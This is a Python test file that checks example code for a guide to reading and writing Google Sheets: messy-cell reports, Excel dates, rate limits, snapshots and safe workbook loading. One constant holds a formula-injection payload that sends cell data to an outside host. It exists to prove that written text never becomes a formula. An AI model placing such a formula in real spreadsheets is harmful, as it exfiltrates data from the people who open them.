"""Proofs of docs/serving/google-sheets.md."""

import datetime as dt
import gzip
import importlib.resources
import inspect
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import google.auth.aws
import google.auth.exceptions
import gspread
import jsonschema
import openpyxl
import pytest
import yaml
from googleapiclient import discovery
from googleapiclient.http import HttpMock
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from guidance.evidence import (
    assert_output,
    load_example,
    regions,
    twins,
    validate_schema,
)
from guidance.evidence.recorder import RECORDER, Level, Proof
from guidance.paths import EXAMPLES

if TYPE_CHECKING:
    from mypy_boto3_s3 import S3Client

HERE = "serving/google-sheets"
HEADER = ["Gully", "Ward", "Last cleaned", "Depth of silt (cm)", "Blocked"]
CLEAN = ["G-001", "Berrylands", 46339, 12.5, "no"]
AS_OF = dt.datetime(2026, 11, 23, 6, 7, tzinfo=dt.UTC)

type Values = list[list[Any]]


def contract() -> Any:
    """Return the contract of the page."""
    ref = f"examples/{HERE}/gullies.yml"
    agreed: Any = validate_schema(ref, f"examples/{HERE}/gullies.schema.json")
    return load_example(f"{HERE}/reading.py").Contract(
        agreed["header_row"],
        agreed["columns"],
        frozenset(agreed["may_be_empty"]),
        agreed["most_rows_lost"],
    )


# --- reading: twenty messy sheets ---------------------------------------------------------


def row(**cells: Any) -> list[Any]:
    """Return the clean row with other cells: gully, ward, cleaned, depth, blocked."""
    names = ["gully", "ward", "cleaned", "depth", "blocked"]
    return [cells.get(name, value) for name, value in zip(names, CLEAN, strict=True)]


MESSY: dict[str, Values] = {
    "clean": [HEADER, CLEAN],
    "blank cells at the end are missing": [HEADER, ["G-001", "Berrylands", "", "", "no"]],
    "a row that stops early": [HEADER, ["G-001", "Berrylands"]],
    "blank rows between": [HEADER, CLEAN, [], ["", " "], CLEAN],
    "spaces around": [HEADER, row(gully=" G-001 ", blocked=" No ")],
    "columns in another order": [HEADER[::-1], CLEAN[::-1]],
    "a new column": [[*HEADER, "Notes"], [*CLEAN, "ask Sam"]],
    "a heading renamed": [["Gully id", *HEADER[1:]], CLEAN],
    "a heading twice": [[*HEADER, "Ward"], [*CLEAN, "Ewell"]],
    "no heading row": [CLEAN, CLEAN],
    "nothing at all": [],
    "a date typed as text": [HEADER, row(cleaned="12 Nov")],
    "an American date": [HEADER, row(cleaned="11/13/2026")],
    "a number as date": [HEADER, row(cleaned=20261112)],
    "a number with its unit": [HEADER, row(depth="12 cm")],
    "a decimal comma": [HEADER, row(depth="12,5")],
    "leading zeros lost": [HEADER, row(gully=17), row(gully=17.0)],
    "a broken formula": [HEADER, row(depth="#REF!")],
    "yes and no in other words": [HEADER, row(blocked="partly")],
    "a tick box": [HEADER, row(blocked=True)],
    "an identifier left out": [HEADER, row(gully=None)],
    "a tick box for a number": [HEADER, row(depth=False)],
}


def told(values: Values) -> list[str]:
    """Return what the owner of a sheet is told."""
    module = load_example(f"{HERE}/reading.py")
    try:
        return list(module.report(module.read(values, contract(), 0)))
    except Exception as error:
        assert type(error).__name__ == "SheetRefused"
        return [f"refused: {error}"]


@pytest.mark.rule("GSH-3", "GSH-4")
def test_the_owner_is_told_which_cell_to_mend() -> None:
    lines = []
    for name, values in MESSY.items():
        lines += [name, *(f"    {line}" for line in told(values))]

    assert len(MESSY) >= 20
    assert_output(f"examples/{HERE}/messy.out", "\n".join(lines))
    assert told(MESSY["a date typed as text"])[1].startswith("C2: Last cleaned is '12 Nov'")
    assert told(MESSY["blank cells at the end are missing"]) == [
        "1 rows read, 0 cells to mend"
    ]


def gullies(rows: int) -> Values:
    """Return a sheet, every tenth row of which has a date typed as text."""
    typed = {number: "12 Nov" for number in range(0, rows, 10)}
    return [
        HEADER,
        *(
            row(gully=f"G-{number:03}", cleaned=typed.get(number, 46339))
            for number in range(rows)
        ),
    ]


@pytest.mark.rule("GSH-4")
def test_no_row_goes_without_a_word() -> None:
    module = load_example(f"{HERE}/reading.py")
    skipping = load_example(f"{HERE}/wrong/skips_what_it_cannot_read.py").read

    def accounts_for_all(read: Callable[[Values], tuple[int, int]]) -> None:
        kept, named = read(gullies(100))
        assert kept + named == 100, f"{100 - kept - named} rows are gone without a word"

    def ours(values: Values) -> tuple[int, int]:
        sheet = module.read(values, contract(), 100)
        return len(sheet.rows), len(sheet.faults)

    twins(
        accounts_for_all,
        good=ours,
        bad=lambda values: (len(list(skipping(values))), 0),
        harm="10 rows are gone without a word",
    )


@pytest.mark.rule("GSH-5")
def test_a_sheet_that_shrank_is_refused() -> None:
    module = load_example(f"{HERE}/reading.py")

    assert len(module.read(gullies(70), contract(), 100).rows) == 63
    with pytest.raises(Exception, match="has 69 rows and had 100: if that is meant"):
        module.read(gullies(69), contract(), 100)
    with pytest.raises(Exception, match="has 0 rows and had 100"):
        module.read([HEADER], contract(), 100)


@pytest.mark.parametrize(
    ("serial", "day"),
    [
        (1, dt.date(1899, 12, 31)),
        (60, dt.date(1900, 2, 28)),  # Excel says 29 February 1900, which never was
        (61, dt.date(1900, 3, 1)),
        (46110, dt.date(2026, 3, 29)),
        (46110.75, dt.date(2026, 3, 29)),
        (2_958_465, dt.date(9999, 12, 31)),
    ],
)
def test_a_serial_is_a_day(serial: float, day: dt.date) -> None:
    assert load_example(f"{HERE}/reading.py").convert(serial, "date") == day


@pytest.mark.parametrize("serial", [0, -3, 2_958_466])
def test_a_serial_beyond_is_none(serial: float) -> None:
    with pytest.raises(ValueError, match="which is no date"):
        load_example(f"{HERE}/reading.py").convert(serial, "date")


@pytest.mark.parametrize(
    ("place", "name"), [((1, 0), "A1"), ((7, 25), "Z7"), ((7, 26), "AA7"), ((2, 701), "ZZ2")]
)
def test_a_cell_is_called_as_people_do(place: tuple[int, int], name: str) -> None:
    assert load_example(f"{HERE}/reading.py").address(*place) == name


# --- the tab, the quota ------------------------------------------------------------------


def spreadsheet(title: str) -> dict[str, Any]:
    """Return what ``spreadsheets.get`` says of a sheet with two tabs."""
    tabs = [("How to fill this in", 0), (title, 1734920)]
    return {"sheets": [{"properties": {"title": t, "sheetId": i}} for t, i in tabs]}


@pytest.mark.rule("GSH-3")
def test_a_renamed_tab_is_still_found() -> None:
    def finds(range_of: Callable[[dict[str, Any], int], str]) -> None:
        assert range_of(spreadsheet("Gullies"), 1734920) == "'Gullies'"
        found = range_of(spreadsheet("Gullies '26"), 1734920)
        assert found == "'Gullies ''26'", f"reads {found}"

    range_of = load_example(f"{HERE}/tabs.py").range_of
    twins(
        finds,
        good=range_of,
        bad=load_example(f"{HERE}/wrong/by_title.py").range_of,
        harm="reads 'How to fill this in'",
    )
    with pytest.raises(LookupError, match="the tab gid=5 was deleted: restore it"):
        range_of(spreadsheet("Gullies"), 5)


class Clock:
    """A clock that moves only when somebody sleeps."""

    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.now += seconds


@pytest.mark.rule("GSH-6")
def test_no_minute_has_more_requests_than_the_quota() -> None:
    def keeps_the_quota(quota_of: Callable[..., Any]) -> None:
        clock = Clock()
        quota, begun = quota_of(60, clock, clock.sleep), []
        for _ in range(200):
            quota.wait()
            begun.append(clock())
            clock.now += 0.1  # a request takes a while
        most = max(sum(at <= other < at + 60 for other in begun) for at in begun)
        assert most <= 60, f"{most} requests in a minute"

    twins(
        keeps_the_quota,
        good=load_example(f"{HERE}/limiter.py").Quota,
        bad=load_example(f"{HERE}/wrong/waits_a_second.py").Quota,
        harm="200 requests in a minute",
    )


# --- writing: held against Google's own description of its API ---------------------------


def description() -> dict[str, Any]:
    """Return Google's description of the Sheets API, which the client brings along."""
    documents = importlib.resources.files("googleapiclient.discovery_cache.documents")
    found: dict[str, Any] = json.loads((documents / "sheets.v4.json").read_text("utf-8"))
    return found


def json_schema(name: str) -> dict[str, Any]:
    """Turn a schema of the description into JSON Schema; unknown fields are refused."""

    def turned(schema: dict[str, Any]) -> dict[str, Any]:
        if "$ref" in schema:
            return {"$ref": f"#/$defs/{schema['$ref']}"}
        if schema.get("type") == "object":
            fields = {k: turned(v) for k, v in schema.get("properties", {}).items()}
            rest = schema.get("additionalProperties")
            return {
                "type": "object",
                "properties": fields,
                "additionalProperties": turned(rest) if rest else False,
            }
        if schema.get("type") == "array":
            return {"type": "array", "items": turned(schema["items"])}
        kept = {"type": schema["type"]} if schema.get("type") != "any" else {}
        return kept | ({"enum": schema["enum"]} if "enum" in schema else {})

    definitions = {k: turned(v) for k, v in description()["schemas"].items()}
    return {"$ref": f"#/$defs/{name}", "$defs": definitions}


HOSTILE = '=IMPORTDATA("https://example.org/?"&A1)'


def formulas(body: dict[str, Any]) -> list[str]:
    """Return which texts of a request Google would take for formulas."""
    if body.get("valueInputOption") == "USER_ENTERED":
        cells = [cell for line in body["values"] for cell in line]
        return [c for c in cells if isinstance(c, str) and c.startswith("=")]
    values = [
        cell.get("userEnteredValue", {})
        for request in body["requests"]
        for line in request["updateCells"].get("rows", [])
        for cell in line["values"]
    ]
    return [value["formulaValue"] for value in values if "formulaValue" in value]


@pytest.mark.rule("GSH-7")
def test_a_text_stays_a_text() -> None:
    rows = [["G-001", HOSTILE, True, None, 1.5]]
    header = ["Gully", "Note", "Blocked", "Nothing", "Depth"]

    def stays(replacement: Callable[..., dict[str, Any]]) -> None:
        found = formulas(replacement(7, header, rows, AS_OF))
        assert found == [], f"Google would run {found[0]}"

    replacement = load_example(f"{HERE}/writing.py").replacement
    twins(
        stays,
        good=replacement,
        bad=load_example(f"{HERE}/wrong/typed_in.py").replacement,
        harm=r"Google would run =IMPORTDATA",
    )
    body = replacement(7, header, rows, AS_OF)
    jsonschema.validate(body, json_schema("BatchUpdateSpreadsheetRequest"))
    text = json.dumps(body)
    assert "As of 23 November 2026, 06:07 UTC. Do not edit" in text
    with pytest.raises(jsonschema.ValidationError):
        broken = json.loads(text.replace("sheetId", "sheet_id"))
        jsonschema.validate(broken, json_schema("BatchUpdateSpreadsheetRequest"))


@pytest.mark.rule("GSH-7")
def test_the_client_of_google_takes_the_request() -> None:
    body = load_example(f"{HERE}/writing.py").replacement(7, ["Gully"], [["G-001"]], AS_OF)
    service = discovery.build_from_document(description(), http=HttpMock())

    request = service.spreadsheets().batchUpdate(spreadsheetId="an-id", body=body)

    assert request.method == "POST"
    assert request.uri.endswith("/v4/spreadsheets/an-id:batchUpdate?alt=json")
    assert json.loads(request.body) == body
    assert len(body["requests"]) == 2, "one call: both happen, or none"


def test_gspread_takes_values_first() -> None:
    parameters = list(inspect.signature(gspread.Worksheet.update).parameters)

    assert parameters[1:3] == ["values", "range_name"]
    assert inspect.signature(gspread.Worksheet.update).parameters["raw"].default is True


# --- what came is kept ---------------------------------------------------------------------

FILE = {"id": "an-id", "version": "17", "modifiedTime": "2026-11-23T06:07:00.000Z"}


@pytest.mark.rule("GSH-5")
def test_what_came_is_kept_once(s3: "S3Client", bucket: str) -> None:
    keep = load_example(f"{HERE}/snapshot.py").keep

    keys = {keep(s3, bucket, FILE, [HEADER, CLEAN]) for _ in range(2)}
    keys.add(keep(s3, bucket, FILE | {"version": "18"}, [HEADER, CLEAN]))

    assert len(keys) == 2
    stored = s3.list_objects_v2(Bucket=bucket)["Contents"]
    assert {found["Key"] for found in stored} == keys
    body = gzip.decompress(s3.get_object(Bucket=bucket, Key=min(keys))["Body"].read())
    assert json.loads(body)["values"] == [HEADER, CLEAN]
    with pytest.raises(s3.exceptions.ClientError, match="NoSuchBucket"):
        keep(s3, "no-such-bucket-here", FILE, [])


# --- signing in ------------------------------------------------------------------------------


@pytest.mark.rule("GSH-2")
def test_no_key_is_needed() -> None:
    ref = f"examples/{HERE}/federation.json"
    info = json.loads((EXAMPLES / HERE / "federation.json").read_text("utf-8"))

    credentials = google.auth.aws.Credentials.from_info(info)

    assert credentials.service_account_email.startswith("sheets-reader@")
    assert not any(word in json.dumps(info) for word in ("private", "secret", "password"))
    with pytest.raises(google.auth.exceptions.GoogleAuthError):
        google.auth.aws.Credentials.from_info(info | {"credential_source": {}})
    RECORDER.proof(Proof(ref, regions.find(ref).sha256, Level.VALIDATED, "google-auth"))


# --- workbooks -------------------------------------------------------------------------------


def workbook(path: Path, *, mac: bool = False) -> Path:
    """Write a workbook with one date, in either of Excel's two epochs."""
    book = openpyxl.Workbook()
    if mac:
        book.epoch = CALENDAR_MAC_1904
    sheet = book.active
    assert sheet is not None
    sheet.title = "Gullies"
    sheet.append([dt.date(2026, 3, 29)])
    book.save(path)
    return path


@pytest.mark.rule("GSH-9")
def test_a_date_is_the_same_in_both_epochs(tmp_path: Path) -> None:
    ours = load_example(f"{HERE}/excel.py").read_workbook
    by_hand = load_example(f"{HERE}/wrong/counts_from_1900.py").dates

    def is_the_day(dates: Callable[[Path], list[dt.date]]) -> None:
        for mac in (False, True):
            found = dates(workbook(tmp_path / f"{mac}.xlsx", mac=mac))
            assert found == [dt.date(2026, 3, 29)], f"reads {found[0]}"

    twins(
        is_the_day,
        good=lambda path: [line[0].date() for line in ours(path, "Gullies")],
        bad=by_hand,
        harm="reads 2022-03-28",
    )


@pytest.mark.rule("GSH-9")
def test_a_workbook_that_cannot_be_trusted_is_refused(tmp_path: Path) -> None:
    read = load_example(f"{HERE}/excel.py").read_workbook
    good = workbook(tmp_path / "good.xlsx")
    locked = tmp_path / "locked.xlsx"
    locked.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600))
    macros = tmp_path / "macros.xlsm"
    macros.write_bytes(good.read_bytes())
    with zipfile.ZipFile(macros, "a") as parts:
        parts.writestr("xl/vbaProject.bin", b"x")
    bomb = tmp_path / "bomb.xlsx"
    bomb.write_bytes(good.read_bytes())
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/media/image.png", bytes(50_000_001))
    other = tmp_path / "other.xlsx"
    other.write_text("Gully;Ward", "utf-8")
    opened = tmp_path / "~$good.xlsx"
    opened.write_bytes(b"Sam")

    said = {}
    for path in (locked, macros, bomb, other, opened):
        with pytest.raises(Exception, match=path.name.replace("$", r"\$")) as refused:
            read(path, "Gullies")
        said[path.name] = str(refused.value)
    with pytest.raises(Exception, match="has no tab 'Drains'"):
        read(good, "Drains")

    assert said["locked.xlsx"].endswith("has a password or an old format: save it as .xlsx")
    assert said["macros.xlsm"].endswith("holds macros: save it without them")
    assert said["bomb.xlsx"].endswith("is too large unpacked")
    assert said["other.xlsx"].endswith("is no workbook")
    assert said["~$good.xlsx"].endswith("says that the file is open")


def test_a_contract_is_checked() -> None:
    agreed = yaml.safe_load((EXAMPLES / HERE / "gullies.yml").read_text("utf-8"))
    schema = json.loads((EXAMPLES / HERE / "gullies.schema.json").read_text("utf-8"))

    for change in ({"tab": "Gullies"}, {"most_rows_lost": 30}, {"columns": {"a": "money"}}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(agreed | change, schema)
